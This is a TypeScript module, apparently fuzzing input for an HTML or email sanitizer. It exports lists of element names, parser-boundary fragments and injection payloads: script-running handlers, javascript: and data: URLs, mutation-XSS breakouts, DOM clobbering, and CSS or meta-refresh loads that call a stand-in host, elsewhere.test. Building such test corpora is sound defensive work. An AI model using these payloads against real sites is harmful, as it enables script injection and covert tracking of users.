/** Pieces of which hostile letters are made: places where parsers disagree, and loads that show when they do. */
export const elements: readonly string[] = `
  svg math style title noscript textarea xmp iframe noembed noframes plaintext template form table tr td caption
  select option mglyph malignmark mtext mi annotation-xml foreignObject desc a b p div img font body html head script
  object details summary ol li br center listing pre image frameset optgroup colgroup col tbody blockquote h1 rp rt
  ruby nobr marquee button input
`
  .trim()
  .split(/\s+/);

export const loads: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<script>alert(1)</script>',
  '<a href=javascript:alert(1)>x</a>',
  '" onmouseover=alert(1) x="',
  "' onfocus=alert(1) autofocus '",
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '<p style="background:url(http://elsewhere.test/a)">',
  '<p style="position:fixed;inset:0">',
  `<p style='font-family:"}*{background:url(//elsewhere.test)}'>`,
  `<p style="font-family:'a">`,
  '<p style="background-image:url(&quot;//elsewhere.test/1&quot;)">',
  '<p style="background:url(data:image/svg+xml,<svg onload=alert(1)>)">',
  '<p style="\\70osition:fixed">',
  '<p style="color:red;/**/position:/**/absolute">',
  '<td style="/*" title="*/;position:fixed">',
  '<img src="//elsewhere.test/x">',
  '<img srcset="http://elsewhere.test/y 1x">',
  '<table background="//elsewhere.test/z">',
  '<base href=//elsewhere.test>',
  '<link rel=stylesheet href=//elsewhere.test/s>',
  '<meta http-equiv=refresh content="0;url=//elsewhere.test">',
  '<p id=cookie name=forms>',
  '<img name=getElementById data-remote-src="javascript:alert(1)">',
  '<a href="data:text/html,<script>alert(1)</script>">q</a>',
  '<a href="\u0001java\tscript:alert(1)">q</a>',
  '<a href="http://a/&quot;onclick=alert(1) &quot;">q</a>',
  '<img src="data:image/png;base64,AA==&quot; onerror=alert(1)">',
  '<p title="</noscript><img src=x onerror=alert(1)>">',
  '<p id="</style><img src=x onerror=alert(1)>">',
];

export const seams: readonly string[] = [
  '<!--',
  '-->',
  '--!>',
  '<!-->',
  '<!--->',
  '<![CDATA[',
  ']]>',
  '"',
  "'",
  '`',
  '>',
  '<',
  '</',
  '<//',
  '/',
  '=',
  '&',
  '<!',
  '<?',
  '\u0000',
  '\n',
  '<\u0000',
  '<a title="',
  "<p title='",
];
